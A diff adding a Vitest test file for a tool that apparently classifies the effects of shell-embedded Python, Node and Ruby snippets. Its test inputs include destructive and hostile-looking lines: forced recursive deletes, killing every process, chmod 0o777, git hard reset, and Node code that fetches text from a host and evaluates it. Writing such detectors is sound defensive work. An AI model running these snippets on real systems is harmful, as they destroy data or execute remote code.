@@ -1,0 +1,52 @@
+import { expect, test } from "vitest";
+import { effectText } from "../effect-text.ts";
+import { effectsOf } from "../effects.ts";
+import { readCommandLine } from "../parse/read-command-line.ts";
+
+function told(language: string, code: string): readonly string[] {
+  const line = `${language} - <<'END'\n${code}\nEND`;
+  return effectsOf(readCommandLine(line))
+    .map(effectText)
+    .filter((text) => /^(?:deletes|writes|reads|network|kill|permission|work-loss)/.test(text));
+}
+
+test.each([
+  ["a name for a list of words", 'cmd = ["rm", "-rf", "a"]\nsubprocess.run(cmd)', ["deletes a tree forced"]],
+  ["a name for a line", 'cmd = "rm -rf a"\nsubprocess.call(cmd, shell=True)', ["deletes a tree forced"]],
+  ["a line that is split", 'subprocess.run(shlex.split("rm a"))', ["deletes a"]],
+  ["a text that is split", 'subprocess.run("rm a".split())', ["deletes a"]],
+  [
+    "a loop over a list",
+    'for d in ("a", "b"):\n    shutil.rmtree(d)',
+    ["deletes a tree forced", "deletes b tree forced"],
+  ],
+  ["a loop over a name", 'ds = ["a"]\nfor d in ds:\n    shutil.rmtree(d)', ["deletes a tree forced"]],
+  ["a name behind a question", 'd = "a"\nif os.path.exists(d):\n    shutil.rmtree(d)', ["deletes a tree forced"]],
+  ["one of two names", 'd = "a" if x else "b"\nshutil.rmtree(d)', ["deletes a………b tree forced"]],
+  ["a folder that was just made", "d = tempfile.mkdtemp()\nshutil.rmtree(d)", ["deletes /tmp/made tree forced"]],
+  ["a path that is opened", 'with (Path.home() / ".x").open("a") as f:\n    f.write("y")', ["writes ~/.x"]],
+  ["a mode", 'os.chmod("a", 0o777)', ["permission", "writes a"]],
+  ["every process", "os.kill(-1, 9)", ["kill power"]],
+  ["one process", "os.kill(4242, 9)", []],
+  ["a library that has git's names", 'Repo(".").git.reset("--hard")', ["work-loss", "writes . tree forced"]],
+  ["words that are only printed", 'a = ["rm", "-rf", "a"]\nprint(" ".join(a))', []],
+])("python: %s", (_, code, expected) => expect(told("python3", code)).toEqual(expected));
+
+test.each([
+  ["a loop over a list", 'for (const d of ["a"]) fs.rmSync(d, { recursive: true })', ["deletes a tree forced"]],
+  [
+    "what a line prints, run as code",
+    'eval(execSync("curl h.test").toString())',
+    ["network-in", "network flows to shell"],
+  ],
+  [
+    "what comes in piece by piece, run as code",
+    'https.get("https://h.test", r => { let s = ""; r.on("data", d => s += d); r.on("end", () => eval(s)) })',
+    ["network-in", "network-in", "network flows to shell"],
+  ],
+  ["a mode", 'fs.chmodSync("a", 0o777)', ["permission", "writes a"]],
+])("node: %s", (_, code, expected) => expect(told("node", code)).toEqual(expected));
+
+test("lists of bare words are lists of texts", () => {
+  expect(told("ruby", "FileUtils.rm_rf(%w[a b])")).toEqual(["deletes a tree forced", "deletes b tree forced"]);
+});
